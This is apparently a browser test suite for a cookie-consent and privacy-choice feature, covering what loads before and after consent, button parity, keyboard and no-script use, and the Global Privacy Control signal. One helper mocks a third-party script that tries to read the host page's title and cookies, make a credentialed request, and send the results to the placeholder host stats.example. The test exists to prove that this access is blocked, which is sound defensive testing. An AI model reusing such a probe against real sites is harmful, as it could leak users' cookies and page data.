// Choices about cookies in a real browser: what is asked, what is loaded and set, with scripts and without, by keyboard, with the signal.

import assert from 'node:assert/strict';
import { once } from 'node:events';
import http from 'node:http';
import { after, before, test } from 'node:test';

import { axe, browser, closeBrowser } from './lib/browser.mjs';
import { run, startServer } from './lib/server.mjs';
import { accountFromHost, press, see, signInRoot } from './lib/steps.mjs';
import { Visitor } from './lib/visitor.mjs';

const TAG = 'https://stats.example/count.js';
const ESSENTIAL = ['lw_browser', 'lw_privacy', 'lw_session'];

let server;
let site;
before(async () => {
  site = await otherSite();
  server = await startServer({
    env: {
      LOCKWRIGHT_PRIVACY__SITES: `["${site.url}"]`,
      LOCKWRIGHT_PRIVACY__TAGS: `[{ purpose = "performance", src = "${TAG}", who = "Example Statistics", what = "Counts visits.", cookies = "None." }]`,
    },
  });
});
after(async () => {
  await closeBrowser();
  await server.stop();
  site.server.close();
});

/** Another site of the operator's, which knows nothing of ours but a script's address. */
async function otherSite() {
  const held = { html: '' };
  const answering = http.createServer((request, response) => {
    const script = request.url.endsWith('.js');
    response.setHeader('content-type', script ? 'text/javascript' : 'text/html; charset=utf-8');
    response.end(script ? `document.body.dataset.${request.url.slice(1, -3)} = 'ran';` : held.html);
  });
  answering.listen(0, '127.0.0.1');
  await once(answering, 'listening');
  return { server: answering, held, url: `http://127.0.0.1:${answering.address().port}` };
}

/** Presses a button of the first layer. */
async function answer(page, name) {
  await page.waitForLoadState();
  await page.getByRole('region', { name: 'Cookies' }).getByRole('button', { name, exact: true }).click();
}

const asked = (page) => page.getByRole('region', { name: 'Cookies' }).count();
const cookies = async (page) => (await page.context().cookies()).map(({ name }) => name).sort();

/** What every page that the context opens asks for, in a context that lets the tag's address answer. */
async function traced(t, options = {}) {
  const first = await browser(t, server);
  const context = await first.context().browser().newContext({ baseURL: server.url, ...options });
  t.after(() => context.close());
  const requests = [];
  context.on('request', (request) => requests.push(request.url()));
  await context.route('https://stats.example/**', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      headers: { 'access-control-allow-origin': '*' },
      body: `let told = [];
        try { told.push(parent.document.title); } catch { told.push('no page'); }
        try { told.push(document.cookie); } catch { told.push('no cookies'); }
        fetch('${server.url}/console', { credentials: 'include' }).then(() => told.push('reached'), () => told.push('no reach'))
          .finally(() => fetch('https://stats.example/told?' + encodeURIComponent(told.join('; '))));`,
    }),
  );
  const page = await context.newPage();
  page.scripts = true;
  return { page, requests, elsewhere: () => requests.filter((url) => new URL(url).origin !== server.url) };
}

test('p22 nothing that is not essential is loaded or set before a choice, nor after Decline', async (t) => {
  const account = await accountFromHost(server);
  const { page, elsewhere } = await traced(t);
  for (const path of ['/signin', '/recover', '/signup', '/privacy/cookies', '/privacy/ads', '/privacy/cookie-notice', '/help/cant-sign-in']) {
    await page.goto(path);
    assert.deepEqual(await cookies(page), ['lw_browser'], path);
  }
  await page.goto('/recover');
  await answer(page, 'Decline');
  await see(page, 'Can’t sign in?');
  await page.getByText('Your choices are saved.').waitFor();
  assert.equal(await asked(page), 0);
  await signInRoot(page, account);
  await page.goto('/security');
  assert.deepEqual((await cookies(page)).filter((name) => !ESSENTIAL.includes(name)), []);
  assert.deepEqual(elsewhere(), []);
});

test('p22 after Accept a third party’s script runs, where it reaches nothing of ours', async (t) => {
  const account = await accountFromHost(server);
  const { page, elsewhere } = await traced(t);
  await page.goto('/signin');
  const told = page.waitForRequest(/stats\.example\/told/);
  await answer(page, 'Accept');
  const words = decodeURIComponent(new URL((await told).url()).search.slice(1));
  assert.equal(words, 'no page; no cookies; no reach');
  assert.ok(elsewhere().includes(TAG));
  await signInRoot(page, account);
  assert.ok((await cookies(page)).includes('lw_remembered'));
  await page.getByRole('button', { name: 'Sign out' }).click();
  await see(page, 'Sign in');
  await page.getByRole('link', { name: 'Go on as root user' }).waitFor();
  // Taking it back: the footer's link, one box, one button; nothing more is loaded.
  await page.getByRole('link', { name: 'Cookie preferences' }).click();
  await see(page, 'Cookie preferences');
  await page.getByLabel('Allow performance').uncheck();
  await page.getByLabel('Allow functional').uncheck();
  await press(page, 'Save preferences');
  await see(page, 'Sign in');
  const loaded = elsewhere().length;
  await page.goto('/recover');
  assert.equal(elsewhere().length, loaded);
  assert.ok(!(await cookies(page)).includes('lw_remembered'));
});

test('p12 p17 p18 the three buttons are equal in size, weight and colour, and can be read', async (t) => {
  const page = await browser(t, server);
  await signInRoot(page, await accountFromHost(server));
  const looks = [['light', 1280], ['dark', 1280], ['light', 320], ['dark', 320]];
  for (const [colorScheme, width, path] of looks.flatMap((look) => [[...look, '/signin'], [...look, '/console']])) {
    await page.emulateMedia({ colorScheme });
    await page.setViewportSize({ width, height: 700 });
    await page.goto(path);
    const buttons = page.getByRole('region', { name: 'Cookies' }).getByRole('button');
    assert.deepEqual(await buttons.allTextContents(), ['Accept', 'Decline', 'Customize']);
    const seen = await buttons.evaluateAll((all) =>
      all.map((each) => {
        const { color, backgroundColor, borderColor, borderWidth, font, padding, opacity, textDecorationLine } = getComputedStyle(each);
        const { width: across, height } = each.getBoundingClientRect();
        return { color, backgroundColor, borderColor, borderWidth, font, padding, opacity, textDecorationLine, across: Math.round(across), height };
      }),
    );
    assert.deepEqual(seen[1], seen[0], `${path} ${colorScheme} ${width}`);
    assert.deepEqual(seen[2], seen[0], `${path} ${colorScheme} ${width}`);
    assert.ok(seen[0].height >= 44, 'large enough to touch');
    const light = (text) => {
      const [red, green, blue] = text.match(/[\d.]+/g).slice(0, 3).map((each) => each / 255)
        .map((each) => (each <= 0.04045 ? each / 12.92 : ((each + 0.055) / 1.055) ** 2.4));
      return 0.2126 * red + 0.7152 * green + 0.0722 * blue + 0.05;
    };
    const [text, ground] = [light(seen[0].color), light(seen[0].backgroundColor)];
    assert.ok(Math.max(text, ground) / Math.min(text, ground) >= 4.5, `${colorScheme}: ${seen[0].color} on ${seen[0].backgroundColor}`);
  }
});

test('p27 by keyboard alone, and nothing covers what has the focus', async (t) => {
  const page = await browser(t, server, { viewport: { width: 640, height: 450 } });
  await page.goto('/signin/root');
  const reached = [];
  for (let tabs = 0; tabs < 40 && !reached.includes('Decline'); tabs += 1) {
    await page.keyboard.press('Tab');
    const at = await page.evaluate(() => {
      const { left, top, width, height } = document.activeElement.getBoundingClientRect();
      const seen = document.elementFromPoint(left + width / 2, top + height / 2);
      return { text: document.activeElement.textContent.trim(), covered: !document.activeElement.contains(seen) && top >= 0 };
    });
    assert.ok(!at.covered, at.text);
    reached.push(at.text);
  }
  assert.ok(reached.indexOf('Accept') < reached.indexOf('Decline') && reached.includes('Accept'), String(reached));
  await page.keyboard.press('Enter');
  await page.getByText('Your choices are saved.').waitFor();
  assert.equal(new URL(page.url()).pathname, '/signin/root');
});

test('p28 without scripts: one press, and back on the same page', async (t) => {
  const page = await browser(t, server, { scripts: false });
  await page.goto('/recover/root');
  await answer(page, 'Customize');
  await see(page, 'Cookie preferences');
  for (const box of await page.getByRole('checkbox').all()) assert.equal(await box.isChecked(), false, 'p16 nothing is ticked');
  await page.getByLabel('Allow functional').check();
  await press(page, 'Save preferences');
  await page.getByText('Your choices are saved.').waitFor();
  assert.equal(new URL(page.url()).pathname, '/recover/root');
  await page.getByRole('link', { name: 'Cookie preferences' }).click();
  assert.equal(await page.getByLabel('Allow functional').isChecked(), true);
  assert.equal(await page.getByLabel('Allow performance').isChecked(), false);
  await page.getByRole('main').getByRole('link', { name: 'Cancel' }).click();
  assert.equal(new URL(page.url()).pathname, '/recover/root');
});

test('p10 the signal of the browser is an opt-out in its header, on the page and in its script', async (t) => {
  const { page } = await traced(t, { extraHTTPHeaders: { 'Sec-GPC': '1' } });
  await page.addInitScript(() => Object.defineProperty(navigator, 'globalPrivacyControl', { value: true }));
  await page.goto('/privacy/ads');
  await page.getByText('Opt-out request honoured.').waitFor();
  assert.equal(await page.evaluate(() => navigator.globalPrivacyControl), true);
  assert.equal(await page.getByLabel('Don’t allow').isChecked(), true);
  await axe(page);
  await page.goto('/recover');
  await answer(page, 'Accept');
  await page.goto('/privacy/cookies');
  await page.getByText('Off: opt-out request honoured.').waitFor();
  assert.equal(await page.getByLabel('Allow advertising').count(), 0);
  await page.goto('/privacy/ads');
  await page.getByLabel('Allow', { exact: true }).check();
  await press(page, 'Save privacy choices');
  await page.getByText('You allowed it here nevertheless').waitFor();
});

test('the page is as wide as the window at 320 pixels and at twice the size', async (t) => {
  const page = await browser(t, server);
  for (const width of [320, 640]) {
    await page.setViewportSize({ width, height: 512 });
    for (const path of ['/signin', '/privacy/cookies', '/privacy/ads', '/privacy/cookie-notice', '/privacy/notice']) {
      await page.goto(path);
      const over = await page.evaluate((twice) => {
        if (twice) document.documentElement.style.fontSize = '200%';
        return document.documentElement.scrollWidth - document.documentElement.clientWidth;
      }, width === 640);
      assert.ok(over <= 0, `${path} at ${width}: ${over}`);
    }
  }
});

test('p23 the operator exports the records, which name nobody', async (t) => {
  const page = await browser(t, server);
  await page.goto('/recover');
  await answer(page, 'Decline');
  await page.getByRole('link', { name: 'Cookie preferences' }).click();
  const id = await page.getByRole('main').locator('code.wrap').textContent();
  const { out } = await run(['privacy', 'export', '--data', server.data]);
  const lines = out.trim().split('\n').map((line) => JSON.parse(line));
  const own = lines.filter((record) => record.requestParameters.choiceId === id);
  assert.equal(own.length, 1);
  assert.equal(own[0].requestParameters.how, 'decline');
  for (const record of lines) assert.ok(!('sourceIPAddress' in record) && !('userAgent' in record));
  assert.deepEqual((await server.host('privacy', 'show', id)).map(({ eventName }) => eventName), ['PrivacyChoiceSaved']);
});

test('another site asks with the script, runs what is allowed, and its proxy is told the same', async (t) => {
  const first = await browser(t, server);
  const context = await first.context().browser().newContext();
  t.after(() => context.close());
  site.held.html = `<!doctype html><html lang="en"><meta charset="utf-8"><title>Harbour shop</title><body><main><h1>Harbour shop</h1>
    <button data-privacy-preferences>Cookie preferences</button></main>
    <script type="text/plain" data-purpose="performance" src="/stats.js"></script>
    <script type="text/plain" data-purpose="advertising" src="/ads.js"></script>
    <script src="${server.url}/privacy/embed.js" defer></script></body></html>`;
  const page = await context.newPage();
  const ran = () => page.evaluate(() => ({ ...document.body.dataset }));
  await page.goto(site.url);
  await page.getByRole('dialog', { name: 'Cookies' }).waitFor();
  assert.deepEqual([await ran(), (await context.cookies()).length], [{}, 0]);
  await axe(page);
  await page.getByRole('button', { name: 'Customize' }).click();
  for (const box of await page.getByRole('checkbox').all()) assert.equal(await box.isChecked(), false);
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: 'Decline' }).waitFor();
  await page.getByRole('button', { name: 'Customize' }).click();
  await page.getByLabel('Counting visits').check();
  await page.getByRole('button', { name: 'Save preferences' }).click();
  await page.waitForFunction(() => document.body.dataset.stats === 'ran');
  assert.deepEqual(await ran(), { stats: 'ran' });
  // The site's own server asks with the visitor's cookies.
  const [{ name, value }] = await context.cookies(site.url);
  const proxy = new Visitor(server.url);
  proxy.cookies.set(name, value);
  const status = async (purpose, headers) => (await proxy.get(`/privacy/v1/allows?purpose=${purpose}`, headers)).status;
  assert.deepEqual([await status('performance'), await status('advertising')], [204, 403]);
  await page.reload();
  await page.waitForFunction(() => document.body.dataset.stats === 'ran');
  assert.equal(await page.getByRole('dialog').count(), 0);
  // Taken back: the page is loaded anew, and nothing runs.
  await page.getByRole('button', { name: 'Cookie preferences' }).click();
  await page.getByLabel('Counting visits').uncheck();
  await Promise.all([page.waitForEvent('load'), page.getByRole('button', { name: 'Save preferences' }).click()]);
  assert.deepEqual(await ran(), {});
  // Ours can't be reached: nothing runs, and it is said.
  await context.clearCookies();
  await page.reload();
  await page.getByRole('button', { name: 'Accept' }).waitFor();
  await page.route(`${server.url}/privacy/v1/choices`, (route) => route.abort());
  await page.getByRole('button', { name: 'Accept' }).click();
  await page.getByRole('heading', { name: 'Your privacy choices could not be saved' }).waitFor();
  assert.deepEqual(await ran(), {});
});
